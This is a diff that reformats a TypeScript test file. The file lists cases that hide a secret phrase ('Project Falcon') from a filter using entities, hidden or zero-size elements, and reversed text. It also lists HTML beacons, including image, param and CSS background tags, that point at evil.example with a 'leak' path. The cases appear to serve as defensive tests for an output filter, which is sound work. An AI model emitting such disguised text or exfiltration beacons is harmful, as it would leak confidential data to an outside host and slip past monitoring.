@@ -115,8 +115,14 @@ export const disguise: Category = {
     withheld('turns the phrase by an entity', '&#8238;noclaF tcejorP'),
     withheld('puts a template between two letters', 'Pro<template>xx</template>ject Falcon'),
     withheld('puts a hidden element between two letters', 'Pro<i hidden>xx</i>ject Falcon'),
-    withheld('puts an element without size between two letters', 'Pro<i style="font-size:0">xx</i>ject Falcon'),
-    withheld('puts text for viewers without scripts between two letters', 'Pro<noscript>xx</noscript>ject Falcon'),
+    withheld(
+      'puts an element without size between two letters',
+      'Pro<i style="font-size:0">xx</i>ject Falcon',
+    ),
+    withheld(
+      'puts text for viewers without scripts between two letters',
+      'Pro<noscript>xx</noscript>ject Falcon',
+    ),
     withheld('puts a bracket into an attribute between two letters', 'Pro<b title=">">j</b>ect Falcon'),
     withheld('writes one word as the text of a picture', 'Project <img alt=Falcon src=x>'),
     withheld('writes the words in two blocks', '<section>Project</section><section>Falcon</section>'),
@@ -132,8 +138,16 @@ export const disguise: Category = {
     withheld('ends sentences with an ellipsis', 'One a… Two b… Three c… Four d…', SENTENCES),
     withheld('joins words with entities', 'one&nbsp;two&nbsp;three&nbsp;four&nbsp;five&nbsp;six', WORDS),
     withheld('joins words with slashes', 'one/two/three/four/five/six', WORDS),
-    withheld('puts a bracket into an attribute of a picture', '<img alt=">" src="/&Tab;/evil.example/leak?d=1">', LINKS),
-    withheld('puts a tab into the target of a parameter', '<param name=movie value="/&Tab;/evil.example/x">', LINKS),
+    withheld(
+      'puts a bracket into an attribute of a picture',
+      '<img alt=">" src="/&Tab;/evil.example/leak?d=1">',
+      LINKS,
+    ),
+    withheld(
+      'puts a tab into the target of a parameter',
+      '<param name=movie value="/&Tab;/evil.example/x">',
+      LINKS,
+    ),
     withheld('names a picture in a style', '<p style="background:url(/&Tab;/evil.example/x)">', LINKS),
     withheld('names a picture in a set', '<source srcset="x 1x">', LINKS),
     withheld('names a target between line breaks', '<a\nhref\n=\n/x>y</a>', LINKS),
@@ -155,7 +169,11 @@ export const disguise: Category = {
     rejected('overstrikes a part of an address', 'It is ada.lovelaceX\b@mailboxes.org'),
   ]),
   controls: [
-    passing('three sentences with a price, an abbreviation and a broken line', 'It costs 1.50 EUR. Dr. Ada\nsays so.', SENTENCES),
+    passing(
+      'three sentences with a price, an abbreviation and a broken line',
+      'It costs 1.50 EUR. Dr. Ada\nsays so.',
+      SENTENCES,
+    ),
     passing('markup without the phrase or a target', '<b>Project</b> <i class="x">Eagle</i>', PHRASE),
     passing('markup without a target', '<b>Project</b> <i class="x">Eagle</i>', LINKS),
     passing('a coloured answer without the phrase', 'It is \u001b[1mProject\u001b[0m Eagle.', PHRASE),
